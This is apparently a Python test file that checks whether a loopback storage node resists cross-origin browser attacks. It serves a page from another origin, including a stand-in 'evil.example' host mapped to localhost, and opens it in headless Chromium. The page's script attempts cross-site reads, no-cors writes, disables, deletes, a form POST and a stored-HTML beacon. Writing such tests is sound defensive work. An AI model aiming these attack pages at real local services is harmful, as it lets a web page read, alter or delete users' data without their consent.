"""Tries what pages of other origins can do to a node on the loopback without a token.

Serves a page under another origin, lets headless Chromium open it, and then looks at the node: nothing may be read,
stored, disabled or deleted. The same node must serve curl and requests in the manner of the Python client.
"""
import http.client
import http.server
import json
import shutil
import subprocess
import tempfile
import threading
import urllib.parse

from pages.tools import BROWSER, fail, need

SECRET = b"what only programs may read"

# Each attempt is one that browsers let a page make: with and without a preflight, opaque, by form, image, script, frame.
PAGE = """<!doctype html><title>page</title><body><script>
const node = "NODE", api = node + "/api/v4/buckets/";
const results = {};
async function attempt(name, url, options) {
    try {
        const answer = await fetch(url, options);
        results[name] = answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
    } catch (error) { results[name] = "failed"; }
}
function load(name, tag, url) {
    return new Promise(done => {
        const element = document.createElement(tag);
        element.onload = () => { results[name] = tag === "iframe" ? "shown" : "loaded"; done(); };
        element.onerror = () => { results[name] = "failed"; done(); };
        element.src = url;
        document.body.append(element);
        setTimeout(done, 2000);
    });
}
(async () => {
    const chunk = { bucket_id: "b", key: "evil_0", ball_id: "evil", size: 1, producer_id: "p", tags: {},
        checksum: "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb" };
    await attempt("read", api + "b/k_0");
    await attempt("list", api + "b/metadata");
    await attempt("metrics", node + "/metrics");
    await attempt("opaque read", api + "b/k_0", { mode: "no-cors" });
    await attempt("put", api + "b/metadata", { method: "POST", body: JSON.stringify(chunk) });
    await attempt("opaque put", api + "b/metadata",
        { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: JSON.stringify(chunk) });
    await attempt("disable", api + "b/k_0/disable", { method: "POST" });
    await attempt("opaque disable", api + "b/k_0/disable", { method: "POST", mode: "no-cors" });
    await attempt("disable peer", node + "/api/v4/peers/mxshell-peer-0/disable", { method: "POST", mode: "no-cors" });
    await attempt("delete", api + "b/k_0", { method: "DELETE" });
    await attempt("delete ball", api + "b/bid/k", { method: "DELETE" });
    await load("image", "img", api + "b/image_0");
    await load("script", "script", api + "b/script_0");
    await load("frame", "iframe", api + "b/page_0");
    results.ran = String(window.ran || document.querySelector("iframe").contentWindow.length > 0);
    const frame = document.createElement("iframe");
    frame.name = "target";
    const form = document.createElement("form");
    form.method = "POST";
    form.action = api + "b/k_0/disable";
    form.target = "target";
    document.body.append(frame, form);
    await new Promise(done => { frame.onload = done; form.submit(); setTimeout(done, 2000); });
    await fetch("/results", { method: "POST", body: JSON.stringify(results) });
    document.title = "done";
})();
</script></body>"""


class Pages(http.server.BaseHTTPRequestHandler):
    node = ""
    results = {}

    def log_message(self, *_):
        pass

    def do_GET(self):
        body = PAGE.replace("NODE", Pages.node).encode()
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["content-length"]))
        if self.path == "/beacon":
            Pages.results["stored page"] = "ran"
        else:
            Pages.results.update(json.loads(body))
        self.send_response(204)
        self.end_headers()


def ask(port, method, path, body=None, headers=None):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.request(method, path, body=body, headers=headers or {})
    answer = connection.getresponse()
    return answer.status, answer.read()


def put(port, ball, content, content_type="application/octet-stream"):
    """As the Python client does: a registration, then the bytes."""
    import hashlib
    chunk = {"bucket_id": "b", "key": f"{ball}_0", "ball_id": ball, "size": len(content), "producer_id": "p",
             "checksum": hashlib.sha256(content).hexdigest(), "tags": {}, "content_type": content_type}
    status, answer = ask(port, "POST", "/api/v4/buckets/b/metadata", json.dumps(chunk),
                         {"content-type": "application/json"})
    if status != 200:
        fail(f"a program cannot register: {status} {answer}")
    ticket = json.loads(answer)["tasks_ids"][0]
    status, answer = ask(port, "POST", f"/api/v4/buckets/data/{ticket}/chunked", content)
    if status != 200:
        fail(f"a program cannot upload: {status} {answer}")


def browse(chromium, url, work, name):
    """Opens a page and waits until it has reported."""
    Pages.results = {}
    browser = subprocess.Popen(
        [chromium, *BROWSER, f"--user-data-dir={work}/{name}", "--host-resolver-rules=MAP evil.example 127.0.0.1",
         "--remote-debugging-port=0", url],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        waited = threading.Event()
        for _ in range(600):
            if "delete ball" in Pages.results or browser.poll() is not None:
                break
            waited.wait(0.1)
    finally:
        browser.terminate()
        browser.wait()
    if "delete ball" not in Pages.results:
        fail(f"the page '{url}' did not report: Chromium ended with {browser.returncode}")
    return dict(Pages.results)


def run(program):
    curl, chromium = need("curl", "curl"), need("chromium", "chromium")
    work = tempfile.mkdtemp(prefix="mx-pages-")
    pages = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Pages)
    threading.Thread(target=pages.serve_forever, daemon=True).start()
    node = subprocess.Popen([program, "node", "--listen", "127.0.0.1:0", "--data", f"{work}/store"],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, text=True)
    try:
        port = urllib.parse.urlsplit(node.stdout.readline().strip()).port
        put(port, "k", SECRET)
        beacon = f"<script>fetch('http://127.0.0.1:{pages.server_port}/beacon',{{method:'POST',mode:'no-cors'}})</script>"
        put(port, "page", beacon.encode(), "text/html")
        put(port, "script", b"window.ran = true", "text/javascript")
        put(port, "image", bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
            "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"), "image/png")
        origins = {
            "another port": (f"http://127.0.0.1:{pages.server_port}/", f"http://127.0.0.1:{port}"),
            "another name": (f"http://evil.example:{pages.server_port}/", f"http://127.0.0.1:{port}"),
            # The name of the page leads to the node: to the browser both are one site.
            "a name that leads here": (f"http://evil.example:{pages.server_port}/", f"http://evil.example:{port}"),
        }
        for name, (page, target) in origins.items():
            Pages.node = target
            results = browse(chromium, page, work, name.replace(" ", "-"))
            for attempt, result in sorted(results.items()):
                print(f"{name}\t{attempt}\t{result}")
                if result not in ("failed", "opaque", "shown", "false"):
                    fail(f"{name}: '{attempt}' got '{result}'")
            status, listing = ask(port, "GET", "/api/v4/buckets/b/metadata")
            keys = [chunk["key"] for chunk in json.loads(listing)["balls"]]
            if status != 200 or keys != ["image_0", "k_0", "page_0", "script_0"]:
                fail(f"{name}: the bucket now has {keys}")
            if ask(port, "GET", "/api/v4/buckets/b/k_0") != (200, SECRET):
                fail(f"{name}: the chunk cannot be read any more")
        # curl, and the bodyless requests of the Python client.
        shown = subprocess.run([curl, "-sSf", f"http://localhost:{port}/api/v4/buckets/b/k_0"], capture_output=True)
        if shown.stdout != SECRET:
            fail(f"curl is not served: {shown.stderr.decode()}")
        if ask(port, "POST", "/api/v4/buckets/b/k_0/disable")[0] != 204:
            fail("a program cannot disable a chunk")
        if ask(port, "DELETE", "/api/v4/buckets/b/bid/k")[0] != 200:
            fail("a program cannot delete")
        print("test-pages: pages get nothing, programs are served")
    finally:
        node.terminate()
        node.wait()
        pages.shutdown()
        shutil.rmtree(work, ignore_errors=True)
